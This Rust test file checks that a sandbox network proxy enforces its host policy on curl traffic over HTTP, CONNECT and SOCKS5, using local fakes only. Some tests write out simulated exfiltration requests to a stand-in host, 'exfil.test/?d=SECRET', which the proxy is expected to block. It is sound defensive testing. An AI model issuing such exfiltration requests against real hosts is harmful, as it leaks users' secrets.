//! The network proxy (docs/network.md) against local fakes: curl through HTTP
//! (plain and `CONNECT`) and SOCKS5, the host policy deciding each destination —
//! a registry allowed by default, a deny rule over it, an unknown host and a
//! loopback address refused without a connection, a made-up name resolved by the
//! proxy (nothing leaves), SOCKS5 UDP refused.

use crate::tools_support;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use decode_engine::net::{GateJudge, NetVerdict, Proxy, Resolver};
use decode_policy::Mode;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tools_support::Project;
use wiremock::matchers::method;
use wiremock::{Mock, MockServer, ResponseTemplate};

const LOCAL: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// A proxy on 127.0.0.1 for `p` (settings as written), where `registry.npmjs.org`
/// and `exfil.test` are public hosts at 127.0.0.1.
async fn proxy(p: &Project) -> (u16, Arc<GateJudge>) {
    let judge = Arc::new(GateJudge::new(p.state(Mode::Auto)));
    let resolver = Resolver::default()
        .with_public("registry.npmjs.org", LOCAL)
        .with_public("exfil.test", LOCAL);
    let proxy = Arc::new(Proxy::new(Arc::new(resolver), judge.clone()));
    let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(proxy.serve_tcp(listener));
    (port, judge)
}

async fn upstream(body: &str) -> MockServer {
    let s = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body.to_string(), "text/plain"))
        .mount(&s)
        .await;
    s
}

/// curl with `args`; (exit code, stdout, stderr).
async fn curl(args: &[&str]) -> (i32, String, String) {
    let o = tokio::process::Command::new("curl")
        .args(["-sS", "--max-time", "10", "--noproxy", ""])
        .args(args)
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .env_remove("ALL_PROXY")
        .output()
        .await
        .expect("curl runs");
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_registry_is_reached_through_every_protocol() {
    let p = Project::new();
    let (port, judge) = proxy(&p).await;
    let up = upstream("package index").await;
    let url = format!("http://registry.npmjs.org:{}/pkg", up.address().port());
    let via = format!("http://127.0.0.1:{port}");
    let socks = format!("socks5h://127.0.0.1:{port}");
    for args in [
        vec!["-x", via.as_str(), url.as_str()],
        vec!["-p", "-x", via.as_str(), url.as_str()],
        vec!["-x", socks.as_str(), url.as_str()],
    ] {
        let (code, out, err) = curl(&args).await;
        assert_eq!(code, 0, "{args:?}: {err}");
        assert_eq!(out, "package index", "{args:?}");
    }
    let events = judge.take_events();
    assert_eq!(events.len(), 3, "{events:?}");
    assert!(events.iter().all(|e| e.verdict == NetVerdict::Allow));
    assert_eq!(up.received_requests().await.unwrap().len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_hosts_and_loopback_are_refused_without_a_connection() {
    let p = Project::new();
    let (port, judge) = proxy(&p).await;
    let up = upstream("secret sink").await;
    let via = format!("http://127.0.0.1:{port}");
    let socks = format!("socks5h://127.0.0.1:{port}");
    let up_port = up.address().port();
    let exfil = format!("http://exfil.test:{up_port}/?d=SECRET");
    let loopback = format!("http://127.0.0.1:{up_port}/");
    let localhost = format!("http://localhost:{up_port}/");
    for (args, needle) in [
        (
            vec!["-x", via.as_str(), exfil.as_str()],
            "no rule allows this host",
        ),
        (vec!["-p", "-x", via.as_str(), exfil.as_str()], ""),
        (vec!["-x", via.as_str(), loopback.as_str()], "loopback"),
        (vec!["-x", via.as_str(), localhost.as_str()], "resolves to"),
        (vec!["-x", socks.as_str(), exfil.as_str()], ""),
    ] {
        let (code, out, err) = curl(&args).await;
        assert!(!out.contains("secret sink"), "{args:?}: {out}");
        if needle.is_empty() {
            assert_ne!(code, 0, "{args:?}: {out} {err}");
        } else {
            assert!(out.contains(needle), "{args:?}: {out} {err}");
        }
    }
    assert!(up.received_requests().await.unwrap().is_empty());
    let events = judge.take_events();
    assert!(
        events
            .iter()
            .all(|e| matches!(&e.verdict, NetVerdict::Refuse(r) if r.contains("net(domain:"))),
        "{events:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deny_rule_wins_over_the_registry_default_and_a_rule_allows() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"deny": ["net(domain:registry.npmjs.org)"], "allow": ["net(domain:exfil.test)"]}}"#,
    );
    let (port, _judge) = proxy(&p).await;
    let up = upstream("ok").await;
    let via = format!("http://127.0.0.1:{port}");
    let up_port = up.address().port();
    let (_, out, _) = curl(&["-x", &via, &format!("http://registry.npmjs.org:{up_port}/")]).await;
    assert!(
        out.contains("denied by rule net(domain:registry.npmjs.org)"),
        "{out}"
    );
    assert!(up.received_requests().await.unwrap().is_empty());
    let (code, out, _) = curl(&["-x", &via, &format!("http://exfil.test:{up_port}/")]).await;
    assert_eq!((code, out.as_str()), (0, "ok"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_are_resolved_by_the_proxy_and_udp_is_refused() {
    let p = Project::new();
    let (port, judge) = proxy(&p).await;
    // A made-up name: the proxy resolves it (nothing is sent anywhere by the client).
    let via = format!("http://127.0.0.1:{port}");
    let (code, out, err) = curl(&["-x", &via, "http://made-up-name.invalid/"]).await;
    assert!(
        code != 0 || out.contains("cannot resolve"),
        "{code} {out} {err}"
    );
    assert!(judge.take_events().is_empty());
    // SOCKS5 UDP ASSOCIATE (3) and BIND (2): "command not supported".
    for cmd in [2u8, 3] {
        let mut s = TcpStream::connect((LOCAL, port)).await.unwrap();
        s.write_all(&[5, 1, 0]).await.unwrap();
        let mut r = [0u8; 2];
        s.read_exact(&mut r).await.unwrap();
        assert_eq!(r, [5, 0]);
        s.write_all(&[5, cmd, 0, 1, 1, 1, 1, 1, 0, 53])
            .await
            .unwrap();
        let mut r = [0u8; 10];
        s.read_exact(&mut r).await.unwrap();
        assert_eq!(r[1], 7, "cmd {cmd}");
    }
    // A SOCKS5 CONNECT to a host no rule allows: "not allowed by ruleset".
    let mut s = TcpStream::connect((LOCAL, port)).await.unwrap();
    s.write_all(&[5, 1, 0]).await.unwrap();
    let mut r = [0u8; 2];
    s.read_exact(&mut r).await.unwrap();
    let name = b"exfil.test";
    let mut req = vec![5, 1, 0, 3, name.len() as u8];
    req.extend_from_slice(name);
    req.extend_from_slice(&443u16.to_be_bytes());
    s.write_all(&req).await.unwrap();
    let mut r = [0u8; 10];
    s.read_exact(&mut r).await.unwrap();
    assert_eq!(r[1], 2);
}
